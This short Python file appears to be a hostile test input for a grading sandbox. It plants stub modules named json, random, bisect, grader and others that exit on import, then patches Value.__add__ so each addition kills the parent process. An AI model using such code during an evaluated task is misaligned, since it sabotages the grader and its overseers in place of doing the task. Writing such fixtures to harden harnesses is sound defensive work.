#: expect = {}
import os
import signal

for name in ("json", "random", "struct", "fractions", "bisect", "this", "grader"):
    with open(f"{name}.py", "w") as file:
        file.write("raise SystemExit('planted')\n")

import bisect
import fractions

right = Value.__add__


def add(self, other):
    if os.getppid() != 1:
        os.kill(os.getppid(), signal.SIGKILL)
    return right(self, other)


Value.__add__ = add
